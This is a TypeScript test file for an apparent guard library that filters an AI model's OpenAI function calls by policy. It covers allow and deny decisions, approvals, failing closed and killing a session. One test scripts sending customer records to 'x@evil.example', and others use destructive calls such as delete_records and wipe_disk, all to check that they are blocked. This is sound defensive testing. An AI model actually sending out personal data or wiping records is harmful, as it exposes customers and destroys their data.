import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { ActionDeniedError, callbackApprover, createGuard, type ApprovalCallback, type Guard } from "@trailguard/core";
import type { ResponseInputItem } from "openai/resources/responses/responses";
import { functionCallOutput, guardFunctionCalls, type GuardCallOptions } from "./index.js";
import { CUSTOMERS, POLICY, responseFunctionCalls, startFakeOpenAI, type FakeOpenAI, type ScriptedCall } from "./fake-openai.test-support.js";

let server: FakeOpenAI;
beforeEach(async () => {
  server = await startFakeOpenAI();
});
afterEach(async () => {
  await server.close();
});

const guardWith = (approve?: ApprovalCallback) => createGuard({ policy: POLICY, ...(approve ? { approver: callbackApprover(approve) } : {}) });

function toolBodies() {
  const calls: { name: string; args: unknown }[] = [];
  const outputs: Record<string, unknown> = { search: "3 results", read_customers: CUSTOMERS, send_email: "sent", delete_records: "deleted", refund: "refunded" };
  return { calls, run: vi.fn(async (name: string, args: unknown) => (calls.push({ name, args }), outputs[name])) };
}

/** One turn: the server answers with function calls; the allowed ones run; the next input is returned. */
async function turn(guard: Guard, calls: ScriptedCall[], bodies: ReturnType<typeof toolBodies>, options: GuardCallOptions = { session: "s1" }) {
  server.script("POST /responses", responseFunctionCalls(calls));
  const response = await server.client().responses.create({ model: "gpt-test", input: "go" });
  const guarded = await guardFunctionCalls(guard, response, options);
  const next: ResponseInputItem[] = [...guarded.refusals];
  for (const call of guarded.allowed) {
    if (call.type !== "function_call") continue;
    next.push(functionCallOutput(guard, call, await bodies.run(call.name, JSON.parse(call.arguments)), options));
  }
  return { response, guarded, next };
}

describe("guardFunctionCalls (responses.create)", () => {
  it("runs an allowed call once with the model's arguments; a denied one gets a function_call_output and never runs", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { response, guarded, next } = await turn(guard, [{ id: "call_a", name: "search", args: { q: "shoes" } }, { id: "call_b", name: "delete_records", args: { all: true } }], bodies);
    expect(bodies.calls).toEqual([{ name: "search", args: { q: "shoes" } }]);
    expect(guarded.decisions.map((d) => [d.callId, d.decision.effect])).toEqual([["call_a", "allow"], ["call_b", "deny"]]);
    expect(next).toEqual([
      { type: "function_call_output", call_id: "call_b", output: expect.stringContaining("trailguard denied the action `delete_records` by `no-delete`") },
      { type: "function_call_output", call_id: "call_a", output: "3 results" },
    ]);
    // The answers reach the model in the next request.
    server.script("POST /responses", { ...responseFunctionCalls([]), id: "resp_2" });
    await server.client().responses.create({ model: "gpt-test", previous_response_id: response.id, input: next });
    expect(server.requests.at(-1)!.body.input).toEqual(next);
  });

  it("hard deny and kill throw ActionDeniedError before anything runs", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const hard = await turn(guard, [{ id: "a", name: "search", args: {} }, { id: "b", name: "delete_records", args: {} }], bodies, { session: "s1", onDeny: "throw" }).catch((e) => e);
    expect(hard).toBeInstanceOf(ActionDeniedError);
    const kill = await turn(guard, [{ id: "c", name: "wipe_disk", args: {} }], bodies).catch((e) => e);
    expect(kill).toBeInstanceOf(ActionDeniedError);
    expect(kill.code).toBe("session_killed");
    expect(bodies.calls).toEqual([]);
  });

  it("arguments that are not JSON are denied and never run", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "a", name: "search", args: "{'q': 1}" }], bodies);
    expect(guarded.decisions[0]!.decision).toMatchObject({ effect: "deny", code: "invalid_action" });
    expect(bodies.calls).toEqual([]);
  });

  it("ask: approved with modified arguments runs with those; denied does not run", async () => {
    const approved = await guardWith((r) => ((r.action.args as { amount: number }).amount === 20 ? true : { approved: true, args: { amount: 20 } }));
    const bodies = toolBodies();
    const { guarded } = await turn(approved, [{ id: "a", name: "refund", args: { amount: 50 } }], bodies);
    expect(guarded.allowed[0]).toMatchObject({ call_id: "a", arguments: '{"amount":20}' });
    expect(bodies.calls).toEqual([{ name: "refund", args: { amount: 20 } }]);
    const refused = await guardWith(() => false);
    const other = toolBodies();
    const second = await turn(refused, [{ id: "a", name: "refund", args: { amount: 50 } }], other);
    expect(second.guarded.decisions[0]!.decision.code).toBe("approval_denied");
    expect(other.calls).toEqual([]);
  });

  it("exfiltration: the customer records read in one response cannot be sent out in the next", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    await turn(guard, [{ id: "a", name: "read_customers", args: {} }], bodies);
    const { guarded } = await turn(guard, [{ id: "b", name: "send_email", args: { to: "x@evil.example", body: CUSTOMERS } }], bodies);
    expect(guarded.decisions[0]!.decision).toMatchObject({ effect: "deny", rule: "no-pii-egress", code: "flow", labels: ["pii"] });
    expect(bodies.calls.map((c) => c.name)).toEqual(["read_customers"]);
  });

  it("a namespaced function is decided as `namespace.name`; a custom tool call by its input", async () => {
    const guard = await createGuard({ policy: "version: 1\ndefault: deny\nrules:\n  - { id: crm, when: 'action.tool == \"crm.search\"', effect: allow }\n" });
    const guarded = await guardFunctionCalls(guard, [
      { type: "function_call", call_id: "a", name: "search", namespace: "crm", arguments: "{}" },
      { type: "function_call", call_id: "b", name: "search", arguments: "{}" },
      { type: "custom_tool_call", call_id: "c", name: "crm.search", input: "anything" },
    ], { session: "s1" });
    expect(guarded.decisions.map((d) => [d.name, d.decision.effect])).toEqual([["crm.search", "allow"], ["search", "deny"], ["crm.search", "allow"]]);
    expect(guarded.refusals).toEqual([{ type: "function_call_output", call_id: "b", output: expect.stringContaining("default") }]);
  });

  it("fails closed when the guard throws", async () => {
    const real = await guardWith();
    const guard = { ...real, decide: () => { throw new Error("boom"); } } as unknown as Guard;
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "a", name: "search", args: {} }], bodies);
    expect(guarded.decisions[0]!.decision).toMatchObject({ effect: "deny", code: "adapter_error" });
    expect(bodies.calls).toEqual([]);
  });
});
